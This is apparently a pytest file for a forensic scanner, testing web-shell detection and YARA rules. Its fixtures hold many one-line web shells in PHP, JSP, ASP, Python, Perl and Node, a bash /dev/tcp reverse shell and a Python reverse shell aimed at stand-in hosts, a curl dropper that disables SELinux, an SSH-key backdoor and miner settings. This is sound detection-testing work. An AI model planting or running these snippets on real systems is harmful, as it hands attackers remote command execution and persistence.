# SPDX-License-Identifier: AGPL-3.0-or-later
"""Web shells, and the YARA rules of ours: each finds what it is for, and nothing in honest content."""

import time
from pathlib import Path

import pytest
from conftest import TreeMaker

from clean_room_analysis.checks.web_shell import WebShell, judge
from clean_room_analysis.checks.yara import Yara
from clean_room_analysis.model import Severity
from clean_room_analysis.rule_bundle import compile_rules


@pytest.mark.parametrize(
    "content",
    [
        "<?php @eval($_POST['x']);",
        "<?php system($_GET[0]); ?>",
        "<?php $_REQUEST['a']($_REQUEST['b']);",
        "<?php eval(gzinflate(base64_decode('x')));",
        "<?php echo `$_GET[c]`;",
    ],
)
def test_web_shells(plain: TreeMaker, content: str) -> None:
    plain.file("/www/html/a.php", content)
    (finding,) = plain.findings(WebShell(), "/srv")
    assert finding.path == "/www/html/a.php" and finding.attack == ("T1505.003",)
    assert finding.severity in (Severity.CRITICAL, Severity.HIGH)


def test_ordinary_scripts_are_no_web_shells(plain: TreeMaker) -> None:
    plain.file("/www/html/index.php", "<?php echo htmlspecialchars($_GET['name']); $result = $db->exec($sql);")
    plain.file("/www/html/.htaccess", "Options -Indexes\nAddHandler php-script .php\n")
    plain.file("/www/html/uploads/a.php", "<?php echo 1;")
    plain.file("/www/html/img/.htaccess", "AddType application/x-httpd-php .jpg\n")
    assert {one.path for one in plain.findings(WebShell())} == {"/www/html/uploads/a.php", "/www/html/img/.htaccess"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.php", "<?php $a = $_POST['x']; $b = trim($a); system($b . ' 2>&1'); ?>"),
        ("a.php", "<?php $k = 'as'.'sert'; $k($_REQUEST['c']);"),
        ("a.php", "<?php array_map('assert', (array)$_POST['c']);"),
        ("a.php", '<?php $_=("!"^"@").("*"^"Y"); ${$_}[0]($x);'),
        ("a.php", "<? move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); ?>"),
        ("a.php", "<?php /* x */ eval/**/(gzinflate(base64_decode('" + "A" * 300 + "')));"),
        ("a.php", "<?php $w = substr($_SERVER['HTTP_REFERER'], -7, -4); forward_static_call_array($w.'ert', array($_REQUEST['p']));"),
        ("a.php", "<?php copy($HTTP_POST_FILES['f']['tmp_name'], $_POST['to']);"),
        ("a.php", "<?php $c = $a . 'sert'; $c(getallheaders()['Demo']);"),
        ("a.phtml", "<?php include($_GET['page']);"),
        ("a.jsp", '<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ("a.jsp", '<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>'),
        (
            "a.jspx",
            "<jsp:root><jsp:scriptlet>new U(this.getClass().getClassLoader()).defineClass(b); request.getReader();</jsp:scriptlet></jsp:root>",
        ),
        ("a.asp", '<%eval request("x")%>'),
        ("a.asp", "<% c = Session(1) : Execute c %>"),
        ("a.asp", "<%@ Language=JScript %><% var _c = Session(1); eval(_c) %>"),
        ("a.asp", '<% Set s = Server.CreateObject("WScript.Shell") : s.Exec(Request.Form("c")) %>'),
        ("a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
        ("a.ashx", '<%@ WebHandler Language="C#" %> System.Reflection.Assembly.Load(Convert.FromBase64String(context.Request["x"]));'),
        ("cgi-bin/a.py", "import cgi, os\nprint(os.popen(cgi.FieldStorage().getvalue('c')).read())\n"),
        ("a.js", "const e = require('child_process'); require('http').createServer((req, res) => e.exec(req.url.slice(1)))"),
        (
            "a.mjs",
            "import cp from 'node:child_process';\napp.get('/', (req, res) => { const { c } = req.query; cp.exec(c, (e, o) => res.send(o)); });",
        ),
        ("a.js", "app.post('/x', (req, res) => { const code = req.body.c; res.send(String(eval(code))); }); module.exports = app;"),
        (
            "a.js",
            "var net = require('net'), sh = require('child_process').spawn('/bin/sh', []); var c = new net.Socket(); c.connect(1, 'h');",
        ),
        (
            "a.py",
            "from flask import request\nimport subprocess\ndef x():\n    c = request.args.get('c')\n    return subprocess.check_output(c, shell=True)\n",
        ),
        ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
        ("a.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"),
        ("cgi-bin/a.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint `$c`;\n"),
        ("cgi-bin/a.cgi", "#!/bin/sh\neval $QUERY_STRING\n"),
        ("cgi-bin/a.cgi", "#!/usr/bin/python3\nimport os\nprint(os.popen(os.environ['QUERY_STRING']).read())\n"),
        ("cgi-bin/a.sh", "#!/usr/bin/env php\n<?php system($_GET['c']);"),
        ("a.sh", "<?php eval($_POST['c']);"),
        ("a.php", "<?php array_map('call_user_func', $_POST['f'], $_POST['a']);"),
        ("a.php", "<?php array_intersect_ukey(['a' => 1], [$_POST['c'] => 1], 'system');"),
        ("a.php", "<?php $f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109); $f('id');"),
        ("a.cfm", '<cfexecute name="cmd.exe" arguments="/c #form.cmd#" timeout="5"></cfexecute>'),
    ],
)
def test_web_shells_of_each_language(plain: TreeMaker, name: str, content: str) -> None:
    plain.file(f"/var/www/html/{name}", content)
    (finding,) = plain.findings(WebShell())
    assert finding.severity in (Severity.CRITICAL, Severity.HIGH) and finding.attack == ("T1505.003",) and finding.sha256


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("post.php", "<?php\n/** Renames `$_POST` data, eval($_POST) is not used */\nfunction f() { return 1; }\n"),
        ("sql.php", "<?php $q = 'SELECT `a` FROM `' . escape($_POST['t']) . '` WHERE `b` = 1'; $db->exec($q);"),
        ("module.graphic.gif.php", "<?php\nclass getid3_gif {}\n"),
        ("Import/Upload/UploadNoplugin.php", "<?php\nclass UploadNoplugin {}\n"),
        ("wp-content/uploads/index.php", "<?php\n// Silence is golden.\n"),
        ("map.php", "<?php $ids = array_map('intval', $_POST['ids']); assert(is_array($_POST['ids']));"),
        ("jsp/date.jsp", "<%@ page import='java.util.*' %><%= new Date() %> <%= request.getParameter(\"n\") == null %>"),
        ("a.asp", '<% Response.Write Server.HTMLEncode(Request("name")) %>'),
        ("app.js", "app.get('/', function (req, res) { res.send(req.query.name); });"),
        ("node_modules/x/a.js", "require('child_process').exec(req.query.c)"),
        (
            "app.py",
            "from flask import request\nimport subprocess\ndef version():\n    name = request.args.get('n')\n    return subprocess.run(['git', 'log'], check=True).stdout + name\n",
        ),
        (
            "server.js",
            "const { execSync } = require('child_process'); const v = execSync('git rev-parse HEAD'); const m = /^a/.exec(req.url); app.get('/', (req, res) => res.send(v));",
        ),
        ("cgi-bin/env.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header, $q->param('name');\n"),
        # Drupal's forms of these.
        ("rebuild.php", "<?php $r = $_GET['token']; array_map('call_user_func', array_filter($caches, 'is_callable'));"),
        ("Registry.php", "<?php $system = array_intersect_key($modules, ['system' => TRUE]); array_map($f, ['exec' => 1]);"),
        ("ImageTest.php", "<?php assert_contains(chr(137) . chr(80) . chr(78) . chr(71) . chr(13) . chr(10) . chr(26) . chr(10), $raw);"),
        ("scripts/dump.sh", "#!/usr/bin/env php\n<?php\n$_SERVER['HTTP_HOST'] = 'default';\n$cmd = 'index.php';\nprint `date`; $cmd\n"),
        ("scripts/run-tests.sh", "<?php\n$_SERVER['HTTP_USER_AGENT'] = 'console';\n$php = $(x); eval $x\n"),
        ("caps.asp", "<% Response.Write(Request.ServerVariables(1)) ' these tags execute _before_ those %>"),
        ("index.cfm", '<cfquery name="q" datasource="shop">select 1</cfquery><form action="a.cfm"></form>'),
    ],
)
def test_honest_pages_are_no_web_shells(plain: TreeMaker, name: str, content: str) -> None:
    plain.file(f"/var/www/html/{name}", content)
    assert plain.findings(WebShell()) == []


@pytest.mark.parametrize(
    "unit",
    [
        "$a=",
        "`",
        "chr(1).",
        "'a'^",
        "eval(",
        "$_POST[",
        "<?php ",
        "/*",
        "\\\\x41",
        "$a[0].",
        '"\\\\',
        "(",
        "$O0O0=",
        "os.system(",
        "a=b\\n",
        "exec(",
        "<cffile ",
        "socket.socket(",
    ],
)
def test_no_script_takes_long(unit: str) -> None:
    began = time.process_time()
    judge("/var/www/a.php", "<?php $_GET;" + unit * (60_000 // len(unit)))
    judge("/var/www/a.jsp", "<% request;" + unit * (60_000 // len(unit)))
    for name, start in (
        ("a.py", "subprocess request.args os.popen("),
        ("a.js", "child_process req.query exec("),
        ("a.pl", "param( Socket"),
        ("a.cfm", "form. <cffile "),
    ):
        judge(f"/var/www/html/{name}", start + unit * (60_000 // len(unit)))
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    ("rule", "content"),
    [
        ("coin_miner", b"\x7fELF....stratum+tcp://pool.example:3333 xmrig donate-level"),
        ("reverse_shell_script", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"),
        ("php_web_shell", b"<?php @eval(base64_decode($_POST['x']));"),
        ("script_inside_picture", b"GIF89a....<?php system('id');"),
        ("ssh_key_backdoor_script", b"#!/bin/sh\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ' >> /root/.ssh/authorized_keys\n"),
        ("dropper_script", b"#!/bin/sh\ncurl -o /tmp/x http://198.51.100.23/x\nchmod +x /tmp/x\nsetenforce 0\n"),
        (
            "ld_preload_rootkit",
            b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 60 + b"/etc/ld.so.preload dlsym readdir64 fopen64",
        ),
        ("packed_elf", b"\x7fELF" + b"\0" * 100 + b"UPX!"),
        ("eicar_test_string", b"padding " * 40 + b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
        ("coin_miner", b"#!/bin/sh\n./sys -o stratum+ssl://198.51.100.9:443 -u x\n"),
        ("coin_miner_settings", b'{"donate-level": 0, "pools": [{"algo": "rx/0", "url": "198.51.100.9:3333", "user": "x"}]}'),
        ("database_function_shell", b"\x7fELF" + b"\0" * 100 + b"sys_exec sys_eval"),
    ],
)
def test_each_yara_rule_matches_what_it_is_for(plain: TreeMaker, rule: str, content: bytes) -> None:
    plain.file("/x", content)
    plain.file("/ordinary", b"#!/bin/sh\necho stratum\n")
    (finding,) = plain.findings(Yara())
    assert (finding.path, finding.rule) == ("/x", rule)
    assert finding.attack and finding.sha256 and finding.evidence


def test_every_yara_rule_is_tested_and_says_what_the_report_needs(tmp_path: Path) -> None:
    rules = {rule.identifier: dict(rule.metadata) for rule in compile_rules().rules}
    tested = {
        mark.args[1][index][0] for mark in test_each_yara_rule_matches_what_it_is_for.pytestmark for index in range(len(mark.args[1]))
    }
    assert set(rules) == tested
    for meta in rules.values():
        assert Severity(str(meta["severity"])) and str(meta["attack"]).startswith("T") and meta["description"]
    with pytest.raises(FileNotFoundError, match="not whole"):
        compile_rules(str(tmp_path))
